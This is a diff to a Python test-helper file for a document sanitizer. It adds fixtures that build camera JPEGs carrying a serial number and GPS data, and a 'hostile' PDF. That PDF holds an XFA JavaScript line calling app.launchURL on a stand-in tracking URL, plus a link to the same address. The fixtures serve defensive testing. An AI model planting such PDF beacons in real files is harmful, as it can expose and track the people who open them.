@@ -15,7 +15,7 @@ from core.sanitize import RejectedFile, sanitize
 MARKER = "Jane Tipster 52.5200N"
 
 
-def rejection(data: bytes, filename: str, **limits: int) -> str:
+def rejection(data: bytes, filename: str, **limits: object) -> str:
     with pytest.raises(RejectedFile) as excinfo:
         sanitize(data, filename, **limits)
     assert excinfo.value.message  # always something a person can read
@@ -167,3 +167,105 @@ def opus_with_tags(**tags: str) -> bytes:
         + _ogg_page(tags_packet, 1, 0, 0)
         + _ogg_page(b"\xfc\xff\xfe", 2, 960, 4)
     )
+
+
+# --- PDFs with images and active content ---------------------------------------------------
+
+SERIAL = "BODY-SN-4815162342"
+GPS_DATUM = "WGS-84 tipster-home"
+XFA_MARKER = "xfa-script-marker"
+TRACKER_URL = "https://tracker.example/leak?id=42"
+# The GPS latitude as Pillow writes it into EXIF: three big-endian rationals (52/1 31/1 12/1).
+GPS_LATITUDE = struct.pack(">IIIIII", 52, 1, 31, 1, 12, 1)
+
+
+def gradient_image(size: tuple[int, int] = (96, 64)) -> Image.Image:
+    """Smooth pixels, so a lossy re-encode stays close to the original."""
+    width, height = size
+    image = Image.new("RGB", size)
+    image.putdata(
+        [(x * 255 // width, y * 255 // height, 128) for y in range(height) for x in range(width)]
+    )
+    return image
+
+
+def camera_jpeg(size: tuple[int, int] = (96, 64)) -> bytes:
+    """A JPEG as a phone writes it: EXIF with the body serial and a GPS position."""
+    exif = Image.Exif()
+    exif[ExifTags.Base.Make] = "Tipcam"
+    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.BodySerialNumber] = SERIAL
+    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
+    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
+    gps[ExifTags.GPS.GPSLatitude] = (52.0, 31.0, 12.0)
+    gps[ExifTags.GPS.GPSMapDatum] = GPS_DATUM
+    out = io.BytesIO()
+    gradient_image(size).save(out, "JPEG", exif=exif, quality=95)
+    return out.getvalue()
+
+
+def image_xobject(pdf: pikepdf.Pdf, data: bytes, size: tuple[int, int], **keys) -> pikepdf.Stream:
+    stream = pikepdf.Stream(pdf, data)
+    stream.Type = pikepdf.Name.XObject
+    stream.Subtype = pikepdf.Name.Image
+    stream.Width, stream.Height = size
+    stream.BitsPerComponent = 8
+    stream.ColorSpace = pikepdf.Name.DeviceRGB
+    for key, value in keys.items():
+        if value is None:
+            del stream[f"/{key}"]
+        else:
+            stream[f"/{key}"] = value
+    return pdf.make_indirect(stream)
+
+
+def pdf_with_images(*images: tuple) -> bytes:
+    """One page drawing each image, side by side. `images` are (data, size, keys) triples."""
+    pdf = pikepdf.new()
+    add_image_page(pdf, *images)
+    return save_plain(pdf)
+
+
+def add_image_page(pdf: pikepdf.Pdf, *images: tuple) -> None:
+    pdf.add_blank_page(page_size=(612, 792))
+    page = pdf.pages[-1]
+    xobjects, drawing = {}, b""
+    for index, (data, size, keys) in enumerate(images):
+        xobjects[f"/Im{index}"] = image_xobject(pdf, data, size, **keys)
+        drawing += b"q 96 0 0 64 %d 600 cm /Im%d Do Q\n" % (index * 100, index)
+    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(xobjects))
+    page.Contents = pdf.make_stream(drawing)
+
+
+def save_plain(pdf: pikepdf.Pdf) -> bytes:
+    out = io.BytesIO()
+    pdf.save(out, compress_streams=False)  # so markers are plainly visible in the input
+    return out.getvalue()
+
+
+def hostile_pdf() -> bytes:
+    """The issue's sample: a camera JPEG as the page image, an XFA form and a tracking link."""
+    pdf = pikepdf.new()
+    add_image_page(pdf, (camera_jpeg(), (96, 64), {"Filter": pikepdf.Name.DCTDecode}))
+    xfa = pdf.make_stream(
+        f'<xdp:xdp><template><script contentType="application/x-javascript">'
+        f'app.launchURL("{TRACKER_URL}"); // {XFA_MARKER}</script></template></xdp:xdp>'.encode()
+    )
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
+    pdf.Root.NeedsRendering = True
+    link = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot,
+        Subtype=pikepdf.Name.Link,
+        Rect=pikepdf.Array([0, 600, 96, 664]),
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(TRACKER_URL)),
+    )
+    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
+    return save_plain(pdf)
+
+
+def fax_g4(image: Image.Image) -> bytes:
+    """CCITT group 4 data for a 1-bit image, as a scanner puts it in a PDF (via a TIFF)."""
+    out = io.BytesIO()
+    image.save(out, "TIFF", compression="group4")
+    tiff = Image.open(out)
+    (offset,), (length,) = tiff.tag_v2[273], tiff.tag_v2[279]  # a single strip
+    return out.getvalue()[offset : offset + length]
